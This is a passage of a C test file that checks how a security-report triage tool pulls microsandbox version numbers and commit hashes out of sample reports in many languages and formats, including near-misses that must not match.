/* test_extract.c — the extractors of extract.h on many small reports in
 * many styles, including near-misses that must not match.  The rules are
 * the shipped rules/ (found like the binaries find them).  With ST_SHARED
 * set, the devset messages are checked field by field too. */
#include <string.h>
#include <archive.h>
#include <archive_entry.h>

#include "sectriage/analysis.h"
#include "sectriage/config.h"
#include "sectriage/classify.h"
#include "sectriage/extract.h"

#include "testutil.h"
#include "../../milter/extract_int.h"

/* Report a failed case and go on with the others. */
#define FAIL(...) do { g_printerr(__VA_ARGS__); g_printerr("\n"); g_test_fail(); } while (0)

/* ------------------------------------------------------------ version */

static const struct {
	const char *text;
	const char *version;   /* NULL: none */
	const char *kind;
} versions[] = {
	{ "  $ msb --version\n  msb 0.6.14\n", "0.6.14", "msb" },
	/* (1807) a development build prints only the next release with "-dev":
	 * the commit the writer built from, when named, says which build ran;
	 * alone the -dev string is the version; a pre-release or a -dev with
	 * its commit in the metadata names its build */
	{ "$ msb --version\nmsb 0.11.0-dev\n$ git rev-parse --short HEAD\n5e0c7d2\n", "5e0c7d2", "commit" },
	{ "Built from main at 9b1f3a6 last night (it calls itself msb 0.11.0-dev).\n", "9b1f3a6", "commit" },
	{ "Ich habe es selbst gebaut, msb --version sagt nur 0.12.0-dev; Commit: e4d5c61.\n", "e4d5c61", "commit" },
	{ "$ msb --version\nmsb 0.11.0-dev\n", "0.11.0-dev", "msb" },
	{ "$ msb --version\nmsb 0.11.0-rc.2\nbuilt from main at 9b1f3a6\n", "0.11.0-rc.2", "msb" },
	{ "$ msb --version\nmsb 0.11.0-dev+g9b1f3a6\nthe tree was at commit 4c2e8d0 before my local patch\n", "0.11.0-dev+g9b1f3a6", "msb" },
	/* (1410) a development build's snapshot package names its commit after
	 * the release it follows (the AUR's -git pkgver, Debian's +git, Fedora's
	 * ^...git, setuptools-scm's .devN+g): the build is that commit.  Not
	 * another package's snapshot, not a plain packaged release */
	{ "$ yay -Qi microsandbox-git\nName            : microsandbox-git\nVersion         : 0.9.12.r31.g7b2d4e9-1\n",
	  "7b2d4e9", "commit" },
	{ "$ pacman -Q microsandbox-git\nmicrosandbox-git 0.10.2.r3.gc41f0a7-2\n", "c41f0a7", "commit" },
	{ "ii  microsandbox  0.10.3+git20280402.9e1d2c4-1  amd64  Lightweight microVM sandboxes\n", "9e1d2c4", "commit" },
	{ "$ rpm -q microsandbox\nmicrosandbox-0.10.4^20280511git5a6b7c8-1.fc42.x86_64\n", "5a6b7c8", "commit" },
	{ "$ pip show microsandbox\nName: microsandbox\nVersion: 0.10.5.dev7+g0d9e8f1\n", "0d9e8f1", "commit" },
	{ "$ pacman -Qi neovim-git\nName            : neovim-git\nVersion         : 0.11.0.r412.g8f3a2b1-1\n", NULL, NULL },
	{ "$ pacman -Q microsandbox\nmicrosandbox 0.10.7-1\n", "0.10.7", "msb" },
	/* (1531) a lockfile pinning microsandbox by a git commit: flake.lock's
	 * locked rev, Cargo.lock's and npm's git source, a Go pseudo-version.
	 * Not another input's rev, not the narHash */
	{ "    \"microsandbox\": {\n      \"inputs\": { \"nixpkgs\": \"nixpkgs\" },\n      \"locked\": {\n"
	  "        \"lastModified\": 1760000000,\n        \"owner\": \"superradcompany\",\n"
	  "        \"rev\": \"0b1c2d3e4f5a69788796a5b4c3d2e1f0a1b2c3d4\",\n        \"type\": \"github\"\n",
	  "0b1c2d3e4f5a69788796a5b4c3d2e1f0a1b2c3d4", "commit" },
	{ "[[package]]\nname = \"msb-core\"\n"
	  "source = \"git+https://github.com/superradcompany/microsandbox?branch=main#5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f\"\n",
	  "5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f", "commit" },
	{ "      \"resolved\": \"git+ssh://git@github.com/superradcompany/microsandbox.git#9f8e7d6c5b4a39281706f5e4d3c2b1a098765432\",\n",
	  "9f8e7d6c5b4a39281706f5e4d3c2b1a098765432", "commit" },
	{ "require github.com/superradcompany/microsandbox/sdk/go v0.0.0-20281003141516-a1b2c3d4e5f6\n",
	  "a1b2c3d4e5f6", "commit" },
	{ "    \"nixpkgs\": {\n      \"locked\": {\n        \"narHash\": \"sha256-AAAA\",\n"
	  "        \"rev\": \"4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d3e\",\n", NULL, NULL },
	{ "require github.com/spf13/cobra v0.0.0-20281003141516-a1b2c3d4e5f6\n", NULL, NULL },
	/* (#3) facts told in prose or in a localised tool's output: a package
	 * manager's info fields in the locale's words, a move under way with its
	 * object, what an install put on the machine (any language), a file of
	 * the repository read at a release tag; not another tool's */
	{ "Nazwa            : microsandbox\nWersja           : 0.9.4-2\nOpis             : sandboxes\n", "0.9.4", "package" },
	{ "$ LANG=es_ES.UTF-8 pacman -Qi microsandbox-bin\nNombre          : microsandbox-bin\nVersi\xc3\xb3n         : 0.8.11-3\n",
	  "0.8.11", "package" },
	{ "Nombre          : docker\nVersi\xc3\xb3n         : 27.3.1-1\n", NULL, NULL },
	{ "When updating our microsandbox port to\n0.9.7 I looked at the install script.\n", "0.9.7", "prose" },
	{ "We recommend upgrading to 0.9.7 as soon as it ships.\n", NULL, NULL },
	{ "While bumping actions/checkout to v4.2.1 I saw nothing else.\n", NULL, NULL },
	{ "Ran brew install microsandbox and it installed 0.9.12 for me.\n", "0.9.12", "prose" },
	{ "\xe7\x94\xa8 apt \xe5\xae\x89\xe8\xa3\x85 microsandbox \xe5\x90\x8e\xef\xbc\x8c\xe8\xa3\x85\xe4\xb8\x8a\xe7\x9a\x84\xe6\x98\xaf 0.9.6-1\xe3\x80\x82\n", "0.9.6", "prose" },
	{ "microsandbox needs node installed, node 20.11.1 here.\n", NULL, NULL },
	{ "Looking at scripts/install.sh as of v0.9.2, the checksum is fetched over http.\n", "0.9.2", "tag" },
	{ "The job uses actions/setup-node@v4 with node v20.11.1.\n", NULL, NULL },
	/* round 26: a Nix store path beside a nixpkgs commit; snap list */
	{ "Locked flake URL:   github:NixOS/nixpkgs/4f0dadbf38ee4cf4cc38cbc232b7708fddf965bc\n"
	  "Store paths:        /nix/store/8xq2c0l7d5pa0m9iyb1kz3wrv6hsgjf4-microsandbox-0.8.3\n", "0.8.3", "package" },
	{ "Name          Version  Rev  Tracking       Publisher   Notes\n"
	  "microsandbox  0.8.3    214  latest/stable  superrad**  classic\n", "0.8.3", "msb" },
	{ "Getest op versie 0.6.11 met een gedeelde map.", "0.6.11", "prose" },
	/* 1732: an install script's download of a release asset (an `sh -x`
	 * trace) names the release; the same path on another host (a mirror,
	 * a fork) is an address and names none; Luxembourgish "Versioun" */
	{ "+ curl -fL -o /tmp/i/msb.tgz https://github.com/superradcompany/microsandbox/releases/download/v0.10.4/msb-darwin-arm64.tar.gz\n",
	  "0.10.4", "tag" },
	{ "Fetched https://github.com/superradcompany/microsandbox/releases/download/0.9.8/microsandbox-x86_64.zip by hand.\n",
	  "0.9.8", "tag" },
	{ "+ wget -q https://cdn.mirror-of-things.example/v0.10.4/msb-linux-x86_64.tar.gz\n", NULL, NULL },
	{ "+ curl -fL https://github.com/someone/msb-fork/releases/download/v0.10.4/msb-linux-x86_64.tar.gz\n", NULL, NULL },
	{ "Mir hunn et mat der Versioun 0.10.6 getest.", "0.10.6", "prose" },
	/* round 44: a date written with dots is no version, the real one
	 * further on still is */
	{ "Exact version of msb and the output I will send tomorrow (26.11.2026),\n", NULL, NULL },
	{ "msb version from 2026.11.25 build\n", NULL, NULL },
	{ "Tested with msb on 3.11.2026.\n\n$ msb --version\nmsb 0.8.5\n", "0.8.5", "msb" },
	/* (#3) a placeholder or development version (what a source tree carries
	 * before a release stamps it) is no release; a real one beside it is */
	{ "CI log:\n  > microsandbox@0.0.0-dev build\n  > tsc -p .\n", NULL, NULL },
	{ "package.json in the checkout:\n  \"name\": \"microsandbox\",\n  \"version\": \"0.0.0\",\n", NULL, NULL },
	{ "msb --version prints msb 0.0.0-development on my local build\n", NULL, NULL },
	{ "The workflow logs > microsandbox@0.0.0-dev test, but I installed msb 0.9.8 from brew.\n", "0.9.8", "msb" },
	{ "npm ls microsandbox says 0.10.0\n", "0.10.0", "npm" },
	{ "Seen on msb 0.0.10 as well.\n", "0.0.10", "msb" },
	{ "Błąd występuje na wersji 0.6.9 i nowszych.", "0.6.9", "prose" },
	{ "Sürüm: 0.6.13\n", "0.6.13", "prose" },
	/* (#3) the tool that tells the version named in a sentence of any
	 * language, its answer after it; another package's is not ours */
	{ "Installiert ist laut npm ls microsandbox die 0.8.7, auf Node 20.\n", "0.8.7", "prose" },
	{ "A verze? Podle dpkg -l microsandbox je to 0.9.1-2 z repozitáře.\n", "0.9.1", "prose" },
	{ "Il binario, msb --version alla mano, risulta 0.9.4.\n", "0.9.4", "prose" },
	{ "Secondo pip show requests ho la 2.31.0 nel venv.\n", NULL, NULL },
	{ "pip list microsandbox nella venv con Python 3.12.4 installato.\n", NULL, NULL },
	{ "Python versie 3.12.4, verder niets bijzonders.", NULL, NULL },
	/* round 14: the tag named before the word "tag" */
	{ "Built from the v0.6.14 tag.\n", "0.6.14", "tag" },
	{ "```\n$ microsandbox --version\nmicrosandbox 0.7.0\n```\n", "0.7.0", "msb" },
	{ "$ msb --version\nv0.2.5\n", "0.2.5", "msb" },
	{ "$ msb version\nmsb 0.6.14 (2c1460b 2026-10-01)\n", "0.6.14", "msb" },
	{ "`msb --version` prints \"msb 0.6.13\".", "0.6.13", "msb" },
	/* round 45: the query's answer told in prose; a scanner's own version */
	{ "With the release tarball, msb --version says 0.8.5, the latest.\n", "0.8.5", "msb" },
	{ "Site: https://console.msb-cloud.example\nZAP Version: 2.15.0\n", NULL, NULL },
	{ "PS C:\\Users\\me> msb.exe --version\r\nmsb 0.6.14\n", "0.6.14", "msb" },
	{ "I'm running microsandbox 0.6.13 on my laptop.", "0.6.13", "msb" },
	{ "We are on microsandbox version 0.6.10 in production.", "0.6.10", "msb" },
	{ "Version: msb 0.6.12 (release tarball)", "0.6.12", "msb" },
	{ "Ich verwende msb 0.6.14 unter Fedora 40.", "0.6.14", "msb" },
	{ "バージョン: msb 0.6.13 を使っています", "0.6.13", "msb" },
	{ "Python 3.12.1, microsandbox 0.6.12, node v22.11.0", "0.6.12", "msb" },
	{ "$ pip show microsandbox\nName: microsandbox\nVersion: 0.6.11\nSummary: Python SDK\n", "0.6.11", "pip" },
	/* the sentence wrapped between its words */
	{ "installed last week into the venv (pip show\nmicrosandbox says 0.8.2), nothing else.\n", "0.8.2", "pip" },
	{ "$ pip freeze\nrequests==2.31.0\nmicrosandbox==0.6.9\nurllib3==2.2.1\n", "0.6.9", "pip" },
	{ "Package      Version\n------------ -------\nmicrosandbox  0.6.8\npip          24.0\n", "0.6.8", "msb" },
	{ "$ npm ls microsandbox\napp@1.0.0 /srv/app\n`-- microsandbox@0.6.12\n", "0.6.12", "npm" },
	{ "$ pnpm why microsandbox\ndependencies:\nmicrosandbox@0.6.7\n", "0.6.7", "npm" },
	/* (#3) the fix an audit proposes ("Will install microsandbox@X") is a
	 * release the writer would move to; the tree beside it names the one
	 * installed, and the proposal alone is still a version */
	{ "fix available via `npm audit fix --force`\nWill install microsandbox@0.12.1, which is a breaking change\n"
	  "$ npm ls microsandbox\nsite@2.0.0 /srv/site\n`-- microsandbox@0.8.8\n", "0.8.8", "npm" },
	{ "npm audit fix --force would install microsandbox@0.12.0 here.\nnode_modules/microsandbox is microsandbox@0.7.5\n",
	  "0.7.5", "npm" },
	{ "Will install microsandbox@0.12.1, which is a breaking change\n", "0.12.1", "npm" },
	{ "\"dependencies\": {\n    \"microsandbox\": \"^0.6.12\"\n}", "0.6.12", "npm" },
	{ "[[package]]\nname = \"tokio\"\nversion = \"1.40.0\"\n\n[[package]]\nname = \"microsandbox\"\nversion = \"0.6.14\"\n", "0.6.14", "lockfile" },
	{ "\"node_modules/microsandbox\": {\n  \"version\": \"0.6.12\",\n  \"resolved\": \"x\"", "0.6.12", "lockfile" },
	{ "$ git describe --tags\nv0.6.13-12-g2c1460b\n", "0.6.13-12-g2c1460b", "git-describe" },
	{ "Built from commit 9f8e7d6c5b4a on main.", "9f8e7d6c5b4a", "commit" },
	{ "I'm running a local build of main at commit\n2c1460b2de01278d7f305040764e1ebe8458073d (cargo build --release)",
	  "2c1460b2de01278d7f305040764e1ebe8458073d", "commit" },
	{ "HEAD is at 2c1460b Merge pull request #812", "2c1460b", "commit" },
	{ "see https://github.com/superradcompany/microsandbox/commit/2c1460b2de01", "2c1460b2de01", "commit" },
	{ "I audited the workflows at tag v0.6.14.", "0.6.14", "tag" },
	{ "Reviewing the defaults of microsandbox's documentation\n(as of 0.6.14) I noticed", "0.6.14", "prose" },
	{ "Version: 0.6.12\nPlatform: Linux\n", "0.6.12", "prose" },
	/* (1395) a form's field for either client: "SDK / CLI version",
	 * "CLI or SDK version"; another product's field is none */
	{ "Category:        SDK - Node\nSDK / CLI version:  0.10.5\nOS: Ubuntu\n", "0.10.5", "prose" },
	{ "CLI or SDK version: 0.9.8\n", "0.9.8", "prose" },
	{ "Browser / OS version: 126.0.3\n", NULL, NULL },
	/* a Windows NT version in a Get-CimInstance list is the host's build,
	 * not microsandbox's (blind round 27) */
	{ "Caption     : Microsoft Windows 11 Home\nVersion     : 10.0.22631\nBuildNumber : 22631\n", NULL, NULL },
	{ "バージョン: 0.6.14\nOS: Ubuntu 24.04\n", "0.6.14", "prose" },
	{ "Versión: 0.6.13 (instalada con pip)\n", "0.6.13", "prose" },
	{ "Affected version: 0.6.10 - 0.6.14\n", NULL, NULL },
	{ "We're running 0.6.14 in production on all CI hosts.", "0.6.14", "prose" },
	{ "We're running 6.8.0-48-generic and Python 3.12.1 on the hosts.", NULL, NULL },
	{ "We are using 1.4.2 of libkrunfw with it.", NULL, NULL },
	{ "- microsandbox: 0.6.14\n- OS: Ubuntu 24.04 LTS\n", "0.6.14", "msb" },
	{ "| Component | Version |\n|---|---|\n| microsandbox | 0.6.14 |\n| Python | 3.12.1 |\n", "0.6.14", "msb" },
	{ "microsandbox_version: 0.6.12\nkernel: 6.8.0\n", "0.6.12", "msb" },
	{ "$ cargo tree -i microsandbox\nmicrosandbox v0.6.14 (/src/microsandbox)\n", "0.6.14", "msb" },
	{ "I'm on the latest microsandbox release (0.6.14).", "0.6.14", "prose" },
	{ "downloaded microsandbox-0.6.13-x86_64-unknown-linux-gnu.tar.gz", "0.6.13", "tag" },
	{ "$ brew info msb\nmsb: stable 0.6.13\n", "0.6.13", "prose" },
	/* held-out forms (#3) */
	{ "cargo install --locked microsandbox-cli@0.6.10", "0.6.10", "msb" },
	{ "==> superradcompany/tap/microsandbox: stable 0.6.14\nInstalled\n/opt/homebrew/Cellar/microsandbox/0.6.14 (12 files)\n",
	  "0.6.14", "msb" },
	{ "SDK \xe7\x89\x88\xe6\x9c\xac\xef\xbc\x9a" "0.6.13\xef\xbc\x88" "Python SDK\xef\xbc\x89", "0.6.13", "prose" },
	{ "$ msb --version\nmsb 0.6.14\n/usr/local/bin/msb is the binary\n", "0.6.14", "msb" },
	/* round 11: distribution packages, __version__, a pre-release, "package" */
	{ "$ dpkg -l microsandbox | tail -n 1\nii  microsandbox   0.6.14-1     amd64        lightweight microVM sandboxes\n",
	  "0.6.14", "msb" },
	{ "$ rpm -q microsandbox\nmicrosandbox-0.6.13-2.fc41.x86_64\n", "0.6.13", "package" },
	{ "python3 -c \"import microsandbox; print(microsandbox.__version__)\" print 0.6.12", "0.6.12", "pip" },
	{ "reading the netd code on 0.7.0-rc.2 it looks like", "0.7.0-rc.2", "prose" },
	/* round 34: the value told in words on the next line */
	{ "I ran python -c \"import microsandbox; print(microsandbox.__version__)\"\nand it printed 0.8.3.\n",
	  "0.8.3", "pip" },
	/* a nightly and semver build metadata say which build ran (round 15) */
	{ "$ msb --version\nmsb 0.8.0-nightly.2026-11-20\n", "0.8.0-nightly.2026-11-20", "msb" },
	/* round 38: a sentence's full stop after a requirements line is not
	 * part of the version; a pre-release and build metadata keep theirs */
	{ "requirements.txt has microsandbox==0.8.4.\n", "0.8.4", "pip" },
	{ "We pin microsandbox==0.8.5-rc.1. Nothing else.\n", "0.8.5-rc.1", "pip" },
	{ "installed microsandbox@0.8.2+git.3f9c2ab.\n", "0.8.2+git.3f9c2ab", "npm" },
	{ "$ msb --version\nmsb 0.8.1+git.3f9c2ab\n\n(built from main)\n", "0.8.1+git.3f9c2ab", "msb" },
	{ "fixed in 0.6.14+ I think", NULL, NULL },
	/* what uname -r prints is the kernel, even when it looks like git describe */
	{ "Version: latest\nKernel: `uname -r` says 6.6.46-04024-gd2c3e5f1b0aa\n", NULL, NULL },
	{ "- microsandbox python package 0.6.12\n", "0.6.12", "prose" },
	/* round 12: a table of versions, the tested row is the version */
	{ "| Version | betroffen | getestet |\n|---|---|---|\n| 0.6.12 | vermutlich | nein |\n"
	  "| 0.6.13 | ja | ja |\n| 0.6.14 | vermutlich | nein |\n", "0.6.13", "prose" },
	{ "| Version | Affected | Tested |\n|:--|:--|:--|\n| 0.6.11 | yes | no |\n| 0.6.12 | yes | \xe2\x9c\x85 |\n",
	  "0.6.12", "prose" },
	{ "| Version | Affected | Tested |\n|---|---|---|\n| 0.6.11 | yes | no |\n| 0.6.12 | yes | no |\n", NULL, NULL },
	/* round 13: a package query of a -bin package and its Version line */
	{ "yay -Qi microsandbox-bin | grep Version -> Version : 0.6.14-1\n", "0.6.14", "package" },
	{ "$ pacman -Qi microsandbox-git\nName            : microsandbox-git\nVersion         : 0.6.13-1\nArchitecture    : x86_64\n",
	  "0.6.13", "package" },
	{ "microsandbox-bin 0.6.12-2\n", "0.6.12", "package" },
	{ "$ pacman -Qi docker\nVersion         : 27.3.1-1\n", NULL, NULL },
	/* round 17: yarn.lock, an image's OCI version label, a build from main
	 * whose cargo output names the crate's own number */
	{ "microsandbox@^0.8.0:\n  version \"0.8.1\"\n  resolved \"https://registry.yarnpkg.com/microsandbox/-/microsandbox-0.8.1.tgz\"\n",
	  "0.8.1", "lockfile" },
	{ "\"microsandbox@npm:^0.8.0\":\n  version: 0.8.2\n", "0.8.2", "lockfile" },
	/* issue #3: a dev container feature of microsandbox with the release
	 * pinned in its "version" option, the tag being the feature's own
	 * major version; not another feature's version option */
	{ "\"features\": {\n  \"ghcr.io/example-org/features/msb:2\": {\n    \"version\": \"0.10.4\",\n"
	  "    \"installDaemon\": true\n  }\n}\n", "0.10.4", "lockfile" },
	{ "\"features\": {\n  \"ghcr.io/devcontainers/features/node:1\": { \"version\": \"22.11.0\" }\n}\n",
	  NULL, NULL },
	{ "ghcr.io/superradcompany/microsandbox@sha256:4f6d0a1c9b2e\n\"Labels\": {\n"
	  "    \"org.opencontainers.image.revision\": \"b71e4c2a09d35f8e\",\n"
	  "    \"org.opencontainers.image.version\": \"0.8.1\"\n", "0.8.1", "image" },
	{ "\"Labels\": {\n    \"org.opencontainers.image.version\": \"3.12.7\",\n"
	  "    \"org.opencontainers.image.title\": \"python\"\n}\n", NULL, NULL },
	{ "   Compiling microsandbox-cli v0.8.1 (/home/tw/src/microsandbox/crates/cli)\n"
	  "Built from main at 5d3f0a9c1b7e48e2a6d0c4f9b8e1a2d3c4b5a697 (git rev-parse HEAD)\n",
	  "5d3f0a9c1b7e48e2a6d0c4f9b8e1a2d3c4b5a697", "commit" },
	/* round 23: git's global options before rev-parse */
	{ "I'm on main as of yesterday:\n    $ git -C ~/src/microsandbox rev-parse HEAD\n"
	  "    9f3e1c27a4b8d6e05f71c2a93b4d8e6f0a1c5b72\n",
	  "9f3e1c27a4b8d6e05f71c2a93b4d8e6f0a1c5b72", "commit" },
	/* round 43: the SHA told in the sentence; an issue tracker's
	 * "Affects Version/s" field (its "Fix Version/s" is not the version run) */
	{ "msb built from main yesterday: `git rev-parse --short HEAD` says 4f1c2d9\n", "4f1c2d9", "commit" },
	{ "Issue Type: Bug\nAffects Version/s: 0.8.5\nComponent/s: runtime\n", "0.8.5", "msb" },
	{ "Issue Type: Bug\nFix Version/s: 0.8.7\n", NULL, NULL },
	/* round 28: a list of tested versions gives the last, the newest run */
	{ "Tested on 0.8.3 and 0.8.4 (latest), same result on both.", "0.8.4", "prose" },
	{ "Reproduced on 0.8.1, 0.8.2 and 0.8.3.", "0.8.3", "prose" },
	/* round 35: a table rendered one cell per paragraph (Outlook's text part) */
	{ "Our environment:\n\nVersion of microsandbox\n\n0.8.4\n\nComputer\n\nMac mini M2 Pro (2023)\n", "0.8.4", "msb" },
	{ "msb version\n0.8.3\n", "0.8.3", "msb" },
	{ "Version of Python\n\n3.12.7\n", NULL, NULL },
	/* near-misses */
	{ "Linux build-07 6.1.0-26-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.112-1 (2024-09-30) x86_64", NULL, NULL },
	{ "Python 3.12.1 and node v22.11.0 on the host", NULL, NULL },
	{ "rustc 1.82.0 (f6e511eec 2024-10-15)", NULL, NULL },
	{ "I installed the SDK with pip a few weeks ago.", NULL, NULL },
	{ "While reading the protocol crate on main last week I noticed", NULL, NULL },
	{ "msb was installed with winget; I don't have the exact version.", NULL, NULL },
	{ "microsandbox on Ubuntu 22.04.5 with kernel 5.15.0-125-generic", NULL, NULL },
	{ "microsandbox depends on rsa 0.10.0 through russh 0.62.6", NULL, NULL },
	{ "Name: requests\nVersion: 2.31.0\n", NULL, NULL },
	{ "the cache blob sha256:5f0c93e1b7aa is shared", NULL, NULL },
	{ "microsandbox runs docker 24.0.7 images fine", NULL, NULL },
	{ "msb run python:3.12-slim -- python3 -c 'print(1)'", NULL, NULL },
	{ "Accesschk v6.15 - Reports effective permissions", NULL, NULL },
	/* round 33: package and version managers' listings, an image's tag column */
	{ "\u2502 httpx        \u2502 0.28.1  \u2502\n\u2502 microsandbox \u2502 0.8.3   \u2502          \u2502\n", "0.8.3", "pip" },
	{ "$ apt policy microsandbox\nmicrosandbox:\n  Installed: 0.8.4-1~noble\n  Candidate: 0.8.4-1~noble\n", "0.8.4", "package" },
	{ "The following ports are currently installed:\n  microsandbox @0.8.2_0 (active)\n", "0.8.2", "package" },
	{ "node                                22.11.0  ~/.config/mise/config.toml  22\n"
	  "aqua:superradcompany/microsandbox   0.8.4    ~/.config/mise/config.toml  latest\n", "0.8.4", "package" },
	{ "msb-server-1     ghcr.io/superradcompany/msb-server   0.8.3     4f1c2a9d0b7e   212MB\n", "0.8.3", "image" },
	{ "see https://github.com/superradcompany/microsandbox/releases for 0.8.4", NULL, NULL },
	/* round 42: the package tool's answer in prose */
	{ "Their scripts run through the\nPython package (pip says 0.8.6).", "0.8.6", "pip" },
	{ "npm list shows 0.8.4 for it.", "0.8.4", "npm" },
	/* round 51: a bare version followed by the writer's machine; another
	 * product's version before the same words is not ours */
	{ "msb exec leaves the pty open after exit, 0.8.4 on my laptop.", "0.8.4", "prose" },
	{ "it also happens with Python 3.12.1 on my mac", NULL, NULL },
	/* no version from inside a host name, a URL or an e-mail address: the
	 * product's name in a host names a site, a version in a link a place */
	{ "The login form of console.msb-cloud.example (build 2.4.1) leaks the token.", NULL, NULL },
	{ "I found it on console.msb-cloud.example running 2.4.1 in production.", NULL, NULL },
	{ "api.msb-cloud.example is on 1.4.2 according to its headers", NULL, NULL },
	{ "Write to ops@msb-cloud.example: 3.1.0 of the portal is affected", NULL, NULL },
	{ "msb download page: https://dl.example.org/get?version=0.8.3&os=linux", NULL, NULL },
	{ "the msb mirror at 0.8.3.mirror.example.net serves old files", NULL, NULL },
	{ "I use msb 0.8.4 against console.msb-cloud.example", "0.8.4", "msb" },
	{ "msb.exe version 0.6.14 on Windows 11", "0.6.14", "msb" },
	{ "built from https://github.com/superradcompany/microsandbox/commit/2c1460b2de01", "2c1460b2de01", "commit" },
	{ "url \"https://dl.example.net/releases/v0.8.2/microsandbox-0.8.2-darwin-arm64.tar.gz\"", "0.8.2", "tag" },
	/* a commit of another repository (a CI log's third-party action, a
	 * submodule) is not microsandbox's: the release named beside it is
	 * (round 62's 709, in other words) */
	{ "Run log of the publish job at the v0.9.4 tag:\n"
	  "  Getting action download info\n"
	  "  Download action repository 'acme-ci/cache-rootfs@main' (SHA:91c0e5d2f7a4b3c6d8e9f0a1b2c3d4e5f6a7b8c9)\n",
	  "0.9.4", "tag" },
	{ "The workflow step reads `uses: someone/fetch-kernel@v3 (commit 7a1b2c3d4e5f)` and ran at tag v0.8.12.\n",
	  "0.8.12", "tag" },
	{ "our libkrunfw submodule is pinned at commit 5e6f7a8b9c0d in the tree of release v0.8.11\n",
	  "0.8.11", "tag" },
	/* ... while microsandbox's own commit stays the version */
	/* (#3) a development build named by its branch and commit, in prose
	 * and other languages; not a fix's, an introducing or another
	 * project's commit */
	{ "Checked again on the newest main at 6b1d0e9, compiled it myself.\n", "6b1d0e9", "commit" },
	{ "My build is master (3fa27c1e) from this morning.\n", "3fa27c1e", "commit" },
	{ "Running HEAD (a0b9c8d7e6f5) on the laptop.\n", "a0b9c8d7e6f5", "commit" },
	{ "I compiled the main branch as of 9e8f7a6b5c4d.\n", "9e8f7a6b5c4d", "commit" },
	{ "Probado con la rama main en 5c6d7e8f, compilada con cargo.\n", "5c6d7e8f", "commit" },
	{ "Getestet mit main bei 2d3e4f5a, selbst gebaut.\n", "2d3e4f5a", "commit" },
	{ "Reproduced on commit 8b9c0d1 of main.\n", "8b9c0d1", "commit" },
	{ "The fix was merged into main at 1e2f3a4b last night.\n", NULL, NULL },
	{ "I believe this regressed in commit 4d5e6f70 of the runtime.\n", NULL, NULL },
	{ "The bug was introduced by commit 5a4b3c2d in October.\n", NULL, NULL },
	{ "libkrun's main at 7c8d9e0f has the same check.\n", NULL, NULL },
	{ "The upstream master @ 6f5e4d3c still has it; I run msb 0.9.3.\n", "0.9.3", "msb" },
	/* (#3) a downstream copy and the upstream release it was made from;
	 * another project after "upstream" is not the product */
	{ "We hit it in our in-house fork forked from 0.10.4 last spring.\n", "0.10.4", "prose" },
	{ "Seen in the patched build based on upstream v0.9.8 that our platform ships.\n", "0.9.8", "prose" },
	{ "Our VMM layer is based on upstream libkrun v1.9.8 with two patches.\n", NULL, NULL },
	{ "The main problem (see below) is the mount.\n", NULL, NULL },
	{ "Reproduced on a build of main at commit 3c4d5e6f7a8b9c0d (cargo build --release).\n",
	  "3c4d5e6f7a8b9c0d", "commit" },
	/* (1222) a repository file read at a commit is that commit, as one
	 * read at a tag is the release; a file a fix changed, another
	 * project's file, or a hex word without a digit is none */
	{ "The job in ci/publish.yml at 4b3c2d1e9f8a reads the token from the PR title.\n",
	  "4b3c2d1e9f8a", "commit" },
	{ "Reading crates/core/src/vm.rs as of 7e6d5c4b3a29 the length is never checked.\n",
	  "7e6d5c4b3a29", "commit" },
	{ "scripts/install.sh on commit 9a8b7c6d5e4f skips the checksum.\n", "9a8b7c6d5e4f", "commit" },
	{ "The fix landed in src/net/dns.rs at 1f2e3d4c; I have not retested.\n", NULL, NULL },
	{ "libkrun's src/devices/fs.rs at 5b6c7d8e9f0a has the same check.\n", NULL, NULL },
	{ "Their release.yml at 3e2d1c0b9a87 pins nothing either.\n", NULL, NULL },
	{ "I saved the dump as notes.json at cafebabe in the bucket.\n", NULL, NULL },
	{ "The repo's bench.yml at 8c7b6a5d runs on pull_request_target.\n", "8c7b6a5d", "commit" },
	/* (1223) the version told as what it is, in English and other
	 * languages; not another program's version, nor the latest or a
	 * fixed release */
	{ "Version is 0.9.4, from the tarball, on Fedora.\n", "0.9.4", "prose" },
	{ "Everything is stock. The version we run is 0.8.9 on all hosts.\n", "0.8.9", "prose" },
	{ "La versione \xc3\xa8 la 0.9.4, installata con brew.\n", "0.9.4", "prose" },
	{ "Die Version ist 0.9.4 (Homebrew).\n", "0.9.4", "prose" },
	{ "La versi\xc3\xb3n es 0.9.4, instalada con cargo.\n", "0.9.4", "prose" },
	{ "The kernel version is 6.8.12 and nothing else changed.\n", NULL, NULL },
	{ "Python version is 3.12.4, if that matters.\n", NULL, NULL },
	{ "I read that the latest version is 0.9.9 but have not installed it.\n", NULL, NULL },
	{ "The fixed version is 0.9.9 according to the changelog.\n", NULL, NULL },
	/* (1230, 1233) the version told in a sentence in Japanese, Chinese,
	 * Korean, Czech, Slovak, Hungarian and Ukrainian; not another
	 * program's in those languages, the latest, nor a fixed or next release */
	{ "\xe3\x81\x86\xe3\x81\xa1\xe3\x81\xae microsandbox \xe3\x81\xae\xe3\x83\x90\xe3\x83\xbc\xe3\x82\xb8\xe3\x83\xa7\xe3\x83\xb3\xe3\x81\xaf 0.9.7 \xe3\x81\xa7\xe3\x81\x99\xe3\x80\x82\n", "0.9.7", "prose" },
	{ "\xe4\xbb\x8a\xe4\xbd\xbf\xe3\x81\xa3\xe3\x81\xa6\xe3\x81\x84\xe3\x82\x8b\xe3\x83\x90\xe3\x83\xbc\xe3\x82\xb8\xe3\x83\xa7\xe3\x83\xb3\xe3\x81\xaf 0.9.7 \xe3\x81\xa7\xe3\x80\x81Homebrew \xe3\x81\xa7\xe5\x85\xa5\xe3\x82\x8c\xe3\x81\xbe\xe3\x81\x97\xe3\x81\x9f\xe3\x80\x82\n", "0.9.7", "prose" },
	{ "\xe6\x88\x91\xe4\xbb\xac\xe7\x94\xa8\xe7\x9a\x84\xe7\x89\x88\xe6\x9c\xac\xe6\x98\xaf 0.9.7\xef\xbc\x8c\xe9\x80\x9a\xe8\xbf\x87 pip \xe5\xae\x89\xe8\xa3\x85\xe3\x80\x82\n", "0.9.7", "prose" },
	{ "Python SDK \xeb\xb2\x84\xec\xa0\x84\xec\x9d\x80 0.9.7\xec\x9e\x85\xeb\x8b\x88\xeb\x8b\xa4.\n", "0.9.7", "prose" },
